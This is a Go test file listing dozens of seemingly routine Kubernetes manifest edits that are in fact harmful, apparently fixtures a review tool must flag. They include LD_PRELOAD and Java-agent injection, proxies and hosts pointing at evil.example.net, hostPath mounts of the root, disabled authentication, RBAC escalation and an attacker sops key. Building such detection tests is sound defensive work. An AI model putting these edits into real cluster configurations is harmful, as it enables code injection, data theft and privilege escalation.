package command

import (
	"slices"
	"strings"
)

// object adds a file with one object in flow style.
func object(name, text string) harmlessChange {
	return harmlessChange{name, func(f files, dir string) { f[dir+"/x.yaml"] = text + "\n" }}
}

// freshNear must be asked about, in the repository of richManifests: what is harmful and looks like what
// teams do every day.
var freshNear = slices.Concat(
	edits("api.yaml",
		"image without a registry", "registry.example.com/api:1.0.0", "api:1.0.0",
		"registry with a dot at its end", "registry.example.com/api:1.0.0", "registry.example.com./api:1.0.0",
		"registry at another port", "registry.example.com/api:1.0.0", "registry.example.com:5000/api:1.0.0",
		"volume of an image", "{name: tmp, emptyDir: {}}", "{name: tmp, image: {reference: evil.example.net/x:1}}",
		"another container reads the Secret", "      - name: log\n", "      - name: log\n        envFrom: [{secretRef: {name: db}}]\n",
		"a key of the Secret for another container", "      - name: log\n", "      - name: log\n        env: [{name: P, valueFrom: {secretKeyRef: {name: db, key: PASSWORD}}}]\n",
		"an init container reads the Secret", "      - name: migrate\n", "      - name: migrate\n        envFrom: [{secretRef: {name: db}}]\n",
		"mount over programs", "mountPath: /etc/api}", "mountPath: /usr/bin}",
		"variable of the loader", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: LD_PRELOAD, value: /tmp/x.so}",
		"proxy", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: https_proxy, value: http://evil.example.net}",
		"agent of Java", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: JAVA_TOOL_OPTIONS, value: \"-javaagent:/tmp/x.jar\"}",
		"path of programs", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: PATH, value: /tmp}",
		"certificates", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: SSL_CERT_FILE, value: /tmp/ca.crt}",
		"trust", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: NODE_TLS_REJECT_UNAUTHORIZED, value: \"0\"}",
		"host of another domain", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: DB_HOST, value: db.evil.example.net}",
		"URL of another domain", "{name: MODE, value: prod}", "{name: MODE, value: prod}\n        - {name: DB_URL, value: \"postgres://shop:x@192.0.2.1/shop\"}",
		"host as an argument", "args: [serve]", "args: [serve, --to, logs.evil.example.net]",
		"nobody is asked who they are", "args: [serve]", "args: [serve, --auth=none]",
		"no variables", "{configMapRef: {name: settings}}, ", "",
		"sidecar", "      - name: migrate\n", "      - name: migrate\n        restartPolicy: Always\n",
		"script beside", "      - name: log\n", "      - {name: x, image: \"registry.example.com/log:1.0.0\", command: [sh, -c, x], "+confined+"}\n      - name: log\n",
		"another program", "registry.example.com/api:1.0.0", "registry.example.com/debug:1.0.0",
		"files over the loader's", "{name: tmp, mountPath: /tmp}", "{name: tmp, mountPath: /tmp}, {name: files, mountPath: /etc/ld.so.preload, subPath: x}",
		"files over programs of its own", "{name: tmp, mountPath: /tmp}", "{name: tmp, mountPath: /tmp}, {name: files, mountPath: /usr/local/bin}",
		"no files", "{name: files, mountPath: /etc/api}", "{name: tmp, mountPath: /etc/api}",
		"mounts of the node", "{name: tmp, mountPath: /tmp}", "{name: tmp, mountPath: /tmp, mountPropagation: HostToContainer}",
		"name of a pod", inPods, inPods+"      hostname: db\n",
		"log of a file", inAPI, inAPI+"        terminationMessagePath: /etc/api/x\n",
		"terminal", inAPI, inAPI+"        stdin: true\n",
		"pods of another", "labels: {app: api}\n      ann", "labels: {app: api, pod-template-hash: x}\n      ann",
		"trust of a volume", "{name: tmp, emptyDir: {}}", "{name: tmp, projected: {sources: [{clusterTrustBundle: {name: x, path: x}}]}}",
		"volume of a class", "{name: tmp, emptyDir: {}}", "{name: tmp, ephemeral: {volumeClaimTemplate: {spec: {storageClassName: x, accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}}}",
		"port that a name finds", "containerPort: 8080}", "containerPort: 8081}",
		"paused", "  strategy:\n", "  paused: true\n  strategy:\n",
		"huge surge", "maxSurge: 1", "maxSurge: 500%",
		"all unavailable", "maxUnavailable: 1", "maxUnavailable: 100%",
		"no selector of its pods", "matchLabels: {app: api}", "matchLabels: {app: api, x: y}",
		"other runtime", inPods, inPods+"      runtimeClassName: none\n",
		"fixed node", inPods, inPods+"      nodeName: master-0\n",
		"ephemeral volume", "{name: tmp, emptyDir: {}}", "{name: tmp, hostPath: {path: /}}",
		"other account with a token", "serviceAccountName: api\n      automountServiceAccountToken: false", "serviceAccountName: api\n      automountServiceAccountToken: true",
		"pull secret", inPods, inPods+"      imagePullSecrets: [{name: login}]\n",
	),
	edits("config.yaml",
		"host in a file", "    level = info\n", "    level = info\n    to = https://evil.example.net\n",
		"no authentication in a file", "    level = info\n", "    level = info\n    auth = false\n",
		"proxy that envFrom reads", "  COLOR: blue\n", "  COLOR: blue\n  HTTP_PROXY: proxy\n",
		"code that envFrom loads", "  COLOR: blue\n", "  COLOR: blue\n  LD_AUDIT: x\n",
		"program in a file", "pool = 10", "pool = 10\n  run: |\n    #!/bin/sh\n  y: |\n",
		"program in bytes", "data:\n  COLOR", "binaryData: {b: IyEvYmluL3No}\ndata:\n  COLOR",
		"type of a Secret", "kind: Secret\nmetadata: {name: login", "kind: Secret\ntype: kubernetes.io/dockerconfigjson\nmetadata: {name: login",
		"immutable", "metadata: {name: settings, namespace: shop}", "metadata: {name: settings, namespace: shop}\nimmutable: true",
	),
	edits("policy.yaml",
		"port of a policy more", "ports: [{port: 5432}]", "ports: [{port: 5432, endPort: 9999}]",
		"from everywhere", "{podSelector: {matchLabels: {app: nightly}}}", "{namespaceSelector: {}}",
		"path of another Service", "path: /api, pathType: Prefix, backend: {service: {name: api,", "path: /api, pathType: Prefix, backend: {service: {name: front,",
		"host less", "  - host: www.example.com\n", "  - host: www2.example.com\n",
	),
	edits("rights.yaml",
		"verb more", "verbs: [get, list, watch]", "verbs: [get, list, watch, delete]",
		"all Secrets", "resourceNames: [db], ", "",
		"subject more", "subjects: [", "subjects: [{kind: Group, apiGroup: rbac.authorization.k8s.io, name: 'system:serviceaccounts'}, ",
		"token of an account", "  name: api\n  namespace: shop\nautomountServiceAccountToken: false", "  name: api\n  namespace: shop\nautomountServiceAccountToken: true",
	),
	edits("base.yaml", "class of another driver", "provisioner: example.com/disk", "provisioner: evil.example.net/disk", "no enforcement", "{pod-security.kubernetes.io/enforce: restricted}", "{}", "enforcement of an old version", "enforce: restricted}", "enforce: restricted, pod-security.kubernetes.io/enforce-version: v1.10}"),
	edits("nightly.yaml", "every minute", `"0 3 * * *"`, `"* * * * *"`, "suspended", "  concurrencyPolicy: Forbid\n", "  concurrencyPolicy: Forbid\n  suspend: true\n", "other zone", "  concurrencyPolicy: Forbid\n", "  concurrencyPolicy: Forbid\n  timeZone: Asia/Tokyo\n"),
	[]harmlessChange{
		besides(".sops.yaml", "creation_rules: [{path_regex: .*, age: age1evil}]\n"),
		object("rights of Argo CD", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: argocd-rbac-cm, namespace: argocd}\ndata: {policy.default: role:admin}"),
		object("settings of Argo CD", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: argocd-cm, namespace: argocd}\ndata: {users.anonymous.enabled: 'true'}"),
		object("settings of ingress", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ingress-nginx-controller, namespace: ingress-nginx}\ndata: {allow-snippet-annotations: 'true'}"),
		object("mesh", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: istio, namespace: istio-system}\ndata: {mesh: 'outboundTrafficPolicy: {mode: ALLOW_ANY}'}"),
		object("trust of the cluster", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt, namespace: shop}\ndata: {ca.crt: x}"),
		object("default account that pulls", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: default, namespace: shop}\nimagePullSecrets: [{name: login}]"),
		object("default account with an identity", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: default, namespace: shop, annotations: {eks.amazonaws.com/role-arn: a}}"),
		object("admin in the namespace", "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: x, namespace: shop}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: admin}\nsubjects: [{kind: ServiceAccount, name: api, namespace: shop}]"),
		object("role for all", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: x}\naggregationRule: {clusterRoleSelectors: [{matchExpressions: [{key: x, operator: DoesNotExist}]}]}\nrules: []"),
		object("API of another", "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\nmetadata: {name: v1beta1.metrics.k8s.io}\nspec: {group: metrics.k8s.io, version: v1beta1, groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true, service: {name: front, namespace: shop}}"),
		object("policy that stops all", "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: x, namespace: shop}\nspec: {podSelector: {}, policyTypes: [Ingress, Egress]}"),
		object("quota of none", "apiVersion: v1\nkind: ResourceQuota\nmetadata: {name: x, namespace: shop}\nspec: {hard: {pods: '0'}}"),
		object("limits of little", "apiVersion: v1\nkind: LimitRange\nmetadata: {name: x, namespace: shop}\nspec: {limits: [{type: Container, max: {memory: 1Mi}}]}"),
		object("endpoints of another", "apiVersion: discovery.k8s.io/v1\nkind: EndpointSlice\nmetadata: {name: x, namespace: shop, labels: {kubernetes.io/service-name: api}}\naddressType: IPv4\nports: [{name: http, port: 80, protocol: TCP}]\nendpoints: [{addresses: [192.0.2.1]}]"),
		object("autoscaler of few", "apiVersion: autoscaling/v2\nkind: HorizontalPodAutoscaler\nmetadata: {name: front, namespace: shop}\nspec: {minReplicas: 1, maxReplicas: 1, scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: front}}"),
		object("budget of all", "apiVersion: policy/v1\nkind: PodDisruptionBudget\nmetadata: {name: x, namespace: shop}\nspec: {minAvailable: 100%, selector: {matchLabels: {app: front}}}"),
		object("signing request", "apiVersion: certificates.k8s.io/v1\nkind: CertificateSigningRequest\nmetadata: {name: x}\nspec: {request: eA==, signerName: kubernetes.io/kube-apiserver-client, usages: [client auth]}"),
		object("flow of requests", "apiVersion: flowcontrol.apiserver.k8s.io/v1\nkind: FlowSchema\nmetadata: {name: x}\nspec: {matchingPrecedence: 1, priorityLevelConfiguration: {name: catch-all}, rules: [{subjects: [{kind: Group, group: {name: 'system:masters'}}], resourceRules: [{apiGroups: ['*'], resources: ['*'], verbs: ['*'], clusterScope: true, namespaces: ['*']}]}]}"),
		object("lease of a controller", "apiVersion: coordination.k8s.io/v1\nkind: Lease\nmetadata: {name: kube-controller-manager, namespace: kube-system}\nspec: {holderIdentity: x, leaseDurationSeconds: 3600}"),
		object("disk of a node", "apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: x}\nspec: {capacity: {storage: 1Gi}, accessModes: [ReadWriteOnce], storageClassName: standard, hostPath: {path: /}}"),
		object("class of another", "apiVersion: networking.k8s.io/v1\nkind: IngressClass\nmetadata: {name: x, annotations: {ingressclass.kubernetes.io/is-default-class: 'true'}}\nspec: {controller: evil.example.net/x}"),
		object("second default class", "apiVersion: storage.k8s.io/v1\nkind: StorageClass\nmetadata: {name: x, annotations: {storageclass.kubernetes.io/is-default-class: 'true'}}\nprovisioner: example.com/disk"),
		object("priority of all", "apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\nmetadata: {name: x}\nvalue: 1000000\nglobalDefault: true"),
		object("Service at the API's address", "apiVersion: v1\nkind: Service\nmetadata: {name: kubernetes, namespace: default}\nspec: {selector: {app: front}, ports: [{port: 443, targetPort: 3000}]}"),
		object("Service for the pods of a database", "apiVersion: v1\nkind: Service\nmetadata: {name: x, namespace: shop}\nspec: {type: LoadBalancer, selector: {app: db}, ports: [{port: 5432}]}"),
		object("host of another domain", "apiVersion: v1\nkind: Service\nmetadata: {name: pay, namespace: shop}\nspec: {type: ExternalName, externalName: pay.evil.example.net}"),
		object("script of a new workload", strings.Replace(app("cart"), "        env:", "        command: [sh, -c, x]\n        env:", 1)),
		object("new workload of the cluster", strings.Replace(app("cart"), "namespace: shop", "namespace: kube-system", 1)),
		object("new workload before all others", strings.Replace(app("cart"), "    spec:\n", "    spec:\n      priorityClassName: system-node-critical\n", 1)),
		object("new workload on every node", strings.Replace(app("cart"), "    spec:\n", "    spec:\n      tolerations: [{operator: Exists}]\n", 1)),
		object("moving tag of a new workload", strings.ReplaceAll(app("cart"), "cart:1.0.0", "cart:latest")),
		object("no tag of a new workload", strings.ReplaceAll(app("cart"), "cart:1.0.0", "cart")),
		object("moving tag of a new Job", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: seed, namespace: shop}\nspec: {template: {spec: {restartPolicy: Never, "+restricted+", containers: [{name: a, image: \"registry.example.com/a:latest\", "+confined+"}]}}}"),
		object("pod of a disguise", strings.NewReplacer("labels: {app: cart}", "labels: {app: api}", "matchLabels: {app: cart}", "matchLabels: {app: api}").Replace(app("cart"))),
		object("Job that deletes", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: seed, namespace: shop}\nspec: {template: {spec: {restartPolicy: Never, serviceAccountName: api, automountServiceAccountToken: true, securityContext: {runAsNonRoot: true, runAsUser: 1000, seccompProfile: {type: RuntimeDefault}}, containers: [{name: a, image: \"registry.example.com/a:1.0.0\", "+confined+"}]}}}"),
		object("claim of another's data", strings.Replace(app("cart"), "      containers:\n", "      volumes: [{name: d, persistentVolumeClaim: {claimName: data-db-0}}]\n      containers:\n", 1)),
		object("policy that changes", "apiVersion: admissionregistration.k8s.io/v1beta1\nkind: MutatingAdmissionPolicyBinding\nmetadata: {name: x}\nspec: {policyName: x}"),
		object("bundle of trust", "apiVersion: certificates.k8s.io/v1beta1\nkind: ClusterTrustBundle\nmetadata: {name: x}\nspec: {trustBundle: x}"),
		object("application of another repository", "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata: {name: x, namespace: argocd}\nspec: {project: default, source: {repoURL: 'https://evil.example.net/x', path: .}, destination: {server: 'https://kubernetes.default.svc'}}"),
		{"namespace is gone", func(f files, dir string) {
			_, rest, _ := strings.Cut(f[dir+"/base.yaml"], "---\n")
			f[dir+"/base.yaml"] = rest
		}},
		{"claim is gone", func(f files, dir string) {
			parts := strings.Split(f[dir+"/base.yaml"], "---\n")
			f[dir+"/base.yaml"] = strings.Join(slices.Delete(parts, 1, 2), "---\n")
		}},
		{"NetworkPolicy is gone", func(f files, dir string) {
			parts := strings.Split(f[dir+"/policy.yaml"], "---\n")
			f[dir+"/policy.yaml"] = strings.Join(slices.Delete(parts, 2, 3), "---\n")
		}},
		{"quota is gone", func(f files, dir string) {
			parts := strings.Split(f[dir+"/policy.yaml"], "---\n")
			f[dir+"/policy.yaml"] = strings.Join(parts[:4], "---\n")
		}},
	},
)
